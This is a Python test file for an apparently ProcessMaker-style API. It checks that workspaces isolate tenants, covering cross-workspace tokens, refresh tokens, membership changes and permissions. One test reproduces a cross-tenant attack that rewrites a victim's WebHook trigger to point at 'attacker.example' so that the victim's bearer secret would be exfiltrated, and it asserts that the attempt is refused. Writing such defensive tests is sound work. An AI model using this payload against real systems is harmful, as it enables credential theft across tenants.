"""Workspaces are tenants: only members (and admins) get in, a token only where it was issued."""

from __future__ import annotations

import json

from tests.conftest import basic
from tests.dialects.processmaker.support import (
    DESIGNER_PASSWORD,
    JSON,
    call,
    make_designer,
    make_project,
    make_trigger,
)

CLIENT = {"client_id": "x-pm-local-client", "client_secret": "179ad45c6ce2cb97cf1029e212046e81"}
UNAUTHORIZED = {"error": {"code": 401, "message": "Unauthorized"}}
VICTIM_SECRET = "Bearer victim-secret-1"


def _token(client, workspace: str, username: str, password: str = DESIGNER_PASSWORD):
    body = {"grant_type": "password", "scope": "*", **CLIENT}
    body |= {"username": username, "password": password}
    return call(client, "POST", f"/api/1.0/{workspace}/oauth2/token", JSON, body)


def _bearer(client, workspace: str, username: str, password: str = DESIGNER_PASSWORD) -> dict:
    response = _token(client, workspace, username, password)
    assert response.status_code == 200, response.body
    return {"Authorization": f"Bearer {response.json_body['access_token']}", **JSON}


def _stored_trigger(workspace: str, prj: str, tri: str) -> dict:
    from chalicelib.dialects.processmaker import designer

    stored = designer.load_trigger(workspace, prj, tri)
    assert stored is not None
    return stored


def test_another_workspaces_designer_cannot_take_a_victims_webhook_secret(client):
    """The attack of issue 18: evilcorp's PM_FACTORY user PUTs acme's WebHook trigger with a new
    URL and the mask as ``authorization``, so the next case would send acme's secret to him."""
    victim = make_designer(name="victim", workspaces=("acme",))
    make_designer(name="attacker", workspaces=("evilcorp",))
    prj = make_project(client, victim, ws="acme")["prj_uid"]
    tri = make_trigger(client, victim, prj, ws="acme", authorization=VICTIM_SECRET)
    before = _stored_trigger("acme", prj, tri)

    stolen = {
        "tri_title": "Escalate",
        "tri_handlermodule": "WebHook",
        "tri_action": "post_webhook",
        "tri_options": {"URL": "http://attacker.example/hook", "authorization": "********"},
    }
    path = f"/api/1.0/acme/project/{prj}/trigger/{tri}"
    attacker_basic = {**basic("attacker", DESIGNER_PASSWORD), **JSON}
    for credentials in (_bearer(client, "evilcorp", "attacker"), attacker_basic):
        response = call(client, "PUT", path, credentials, stolen)
        assert response.status_code == 401, response.body
        assert response.json_body == UNAUTHORIZED
        # nor may he read what acme has
        for read in ("/api/1.0/acme/project", "/api/1.0/acme/executions", path):
            assert call(client, "GET", read, credentials).status_code == 401, read
    assert _stored_trigger("acme", prj, tri) == before


def test_a_token_of_one_workspace_is_refused_in_another(client, admin):
    headers = make_designer(workspaces=("acme", "beta"))
    acme_token = _bearer(client, "acme", "designer")

    assert call(client, "GET", "/api/1.0/acme/project", acme_token).status_code == 200
    refused = call(client, "GET", "/api/1.0/beta/project", acme_token)
    assert refused.status_code == 401
    assert refused.json_body == UNAUTHORIZED
    assert refused.headers["WWW-Authenticate"] == 'Bearer realm="ProcessMaker"'
    # the member's own password works in both of its workspaces
    assert call(client, "GET", "/api/1.0/beta/project", headers).status_code == 200
    # an admin belongs everywhere, but its workspace token still only where it was issued
    from tests.conftest import ADMIN_PASSWORD

    admin_acme = _bearer(client, "acme", "root", ADMIN_PASSWORD)
    assert call(client, "GET", "/api/1.0/acme/project", admin_acme).status_code == 200
    assert call(client, "GET", "/api/1.0/beta/project", admin_acme).status_code == 401
    assert call(client, "GET", "/api/1.0/beta/project", {**admin, **JSON}).status_code == 200


def test_a_refreshed_token_stays_in_its_workspace(client):
    make_designer(workspaces=("acme", "beta"))
    acme_token = _bearer(client, "acme", "designer")

    fresh = client.http.post("/auth/token", headers=acme_token)
    assert fresh.status_code == 200, fresh.body
    refreshed = {"Authorization": f"Bearer {fresh.json_body['token']}", **JSON}
    assert call(client, "GET", "/api/1.0/acme/project", refreshed).status_code == 200
    assert call(client, "GET", "/api/1.0/beta/project", refreshed).status_code == 401


def test_only_members_get_a_token(client):
    make_designer(workspaces=("acme",))

    response = _token(client, "evilcorp", "designer")
    assert response.status_code == 401
    assert response.json_body == {
        "error": "invalid_grant",
        "error_description": "Invalid username and password combination",
    }


def test_a_refresh_token_ends_when_the_membership_does(client, admin):
    make_designer(workspaces=("acme",))
    granted = _token(client, "acme", "designer").json_body
    change = client.http.patch(
        "/admin/users/designer", headers={**admin, **JSON}, body=json.dumps({"workspaces": []})
    )
    assert change.status_code == 200, change.body
    refresh = {"grant_type": "refresh_token", "refresh_token": granted["refresh_token"], **CLIENT}

    response = call(client, "POST", "/api/1.0/acme/oauth2/token", JSON, refresh)
    assert response.status_code == 400
    assert response.json_body["error"] == "invalid_grant"


def test_an_admin_grants_workspaces(client, admin):
    admin_json = {**admin, **JSON}
    body = {"username": "pm", "password": "pm-password-1", "permissions": ["PM_FACTORY"]}
    assert client.http.post("/admin/users", headers=admin_json, body=json.dumps(body)).status_code
    pm = {**basic("pm", "pm-password-1"), **JSON}
    assert call(client, "GET", "/api/1.0/acme/project", pm).status_code == 401

    change = client.http.patch(
        "/admin/users/pm", headers=admin_json, body=json.dumps({"workspaces": ["acme"]})
    )
    assert change.status_code == 200, change.body
    assert change.json_body["workspaces"] == ["acme"]
    assert call(client, "GET", "/api/1.0/acme/project", pm).status_code == 200
    assert call(client, "GET", "/api/1.0/beta/project", pm).status_code == 401

    bad = client.http.patch(
        "/admin/users/pm", headers=admin_json, body=json.dumps({"workspaces": ["a/b"]})
    )
    assert bad.status_code == 400


def test_cases_need_pm_cases(client):
    factory_only = make_designer(permissions=("PM_FACTORY",), name="factory")
    prj = make_project(client, factory_only)["prj_uid"]
    body = {"pro_uid": prj, "tas_uid": "a" * 32}

    response = call(client, "POST", "/api/1.0/workflow/cases", factory_only, body)
    assert response.status_code == 403
